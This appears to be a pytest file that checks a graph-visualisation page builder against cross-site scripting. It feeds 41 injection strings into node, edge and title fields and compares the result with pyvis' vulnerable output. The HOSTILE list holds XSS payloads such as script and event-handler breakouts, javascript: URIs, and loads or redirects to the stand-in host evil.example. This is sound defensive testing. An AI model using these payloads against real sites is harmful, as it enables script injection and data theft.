"""The page of a network beside pyvis' own, both read as a browser reads them: what runs, and whom it calls."""

import base64
import hashlib
import re
import sys
from html.parser import HTMLParser
from types import ModuleType
from urllib.parse import urlsplit

import networkx as nx
import pytest

from viz.network import page

RUN = "alert(1)"
FETCHING = {"src", "href", "action", "data", "srcset", "poster", "formaction", "xlink:href", "ping", "background"}
HOSTILE = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"<!--<script></script><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</h1><script>{RUN}</script>",
    f"</SCRIPT ><SCRIPT>{RUN}</SCRIPT>",
    f"<script src=https://evil.example/x.js>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    "<img src=https://evil.example/p.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<a href=javascript:{RUN}>here</a>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<object data=javascript:{RUN}></object>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0; url=https://evil.example/">',
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"`-{RUN}-`",
    f"'-{RUN}-'",
    f'"-{RUN}-"',
    f"\\'-{RUN}//",
    f'\\"-{RUN}//',
    f"\u2028{RUN}\u2029",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{% raw %}}<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\ufeff<script>{RUN}</script>",
)


class Read(HTMLParser):
    """What a browser would run, and the hosts it would ask, by a page's elements and attributes."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.handlers: list[str] = []
        self.hosts: set[str] = set()
        self.tags: list[str] = []
        self.policy = ""
        self._runs = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        given = dict(attrs)
        if given.get("http-equiv") == "Content-Security-Policy":
            self.policy = given["content"] or ""
        if tag == "script" and given.get("type") != "application/json":
            self._runs = True
            self.scripts.append("")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:") or name == "srcdoc":
                self.handlers.append(f"{tag} {name}")
            if name in FETCHING and urlsplit(value or "").netloc:
                self.hosts.add(urlsplit(value or "").netloc)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._runs = False

    def handle_data(self, data: str) -> None:
        if self._runs:
            self.scripts[-1] += data


def graph_of(text: str) -> "nx.Graph[str]":
    """Two nodes and an edge with a text in every field that reaches the page."""
    graph: nx.Graph[str] = nx.Graph()
    graph.add_node(text, kind="person", label=text, towns=text, is_root=True)
    graph.add_node("m", kind=text, label=text)
    graph.add_edge(text, "m", kind=text, weight=1, encounters=text)
    return graph


def test_forty_strings_and_no_two_alike() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 40


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_the_data_runs_or_calls(text: str) -> None:
    plain = Read(page(graph_of("plain"), title="plain", note="plain"))
    drawn = Read(page(graph_of(text), title=text, note=text))
    assert drawn.scripts == plain.scripts
    assert (drawn.handlers, drawn.hosts, drawn.tags) == (plain.handlers, plain.hosts, plain.tags)
    assert (plain.handlers, plain.hosts) == ([], set())


def test_the_policy_allows_the_two_scripts_of_the_page_by_what_they_are_and_nothing_else() -> None:
    read = Read(page(graph_of("plain"), title="t", note="n"))
    rules = dict(rule.strip().split(" ", 1) for rule in read.policy.split(";"))
    digests = [base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() for s in read.scripts]
    assert rules.keys() == {"default-src", "script-src", "style-src", "img-src"}
    assert rules["default-src"] == "'none'"
    assert rules["script-src"].split() == [f"'sha256-{d}'" for d in digests]
    assert rules["img-src"] == "data: blob:"


def test_titles_are_drawn_as_text_by_the_library() -> None:
    """vis-network takes an element for HTML and a string for text; the page hands it parsed JSON, which has no elements."""
    run = Read(page(graph_of("plain"), title="t", note="n")).scripts
    assert "JSON.parse" in run[-1]
    assert not re.search(r"innerHTML|document\.write|createElement|eval|Function\(", run[-1])


def test_the_page_of_pyvis_calls_others_and_runs_the_script(monkeypatch: pytest.MonkeyPatch) -> None:
    notebook = ModuleType("IPython.display")
    notebook.IFrame = object  # type: ignore[attr-defined] # pyvis imports it for notebooks alone; it takes seconds
    monkeypatch.setitem(sys.modules, "IPython", ModuleType("IPython"))
    monkeypatch.setitem(sys.modules, "IPython.display", notebook)
    for name in [n for n in sys.modules if n.split(".")[0] == "pyvis"]:
        monkeypatch.delitem(sys.modules, name)
    from pyvis.network import Network  # noqa: PLC0415 - after its notebook is out of the way

    text = f"</h1><script>{RUN}</script>"
    theirs = Network(heading=text, select_menu=True)
    theirs.add_node(text, label=text, title=text)
    for name in [n for n in sys.modules if n.split(".")[0] == "pyvis"]:
        monkeypatch.delitem(sys.modules, name)
    read = Read(theirs.generate_html())
    assert {"cdnjs.cloudflare.com", "cdn.jsdelivr.net"} <= read.hosts
    assert RUN in read.scripts
    ours = Read(page(graph_of(text), title=text, note=text))
    assert ours.hosts == set()
    assert RUN not in ours.scripts
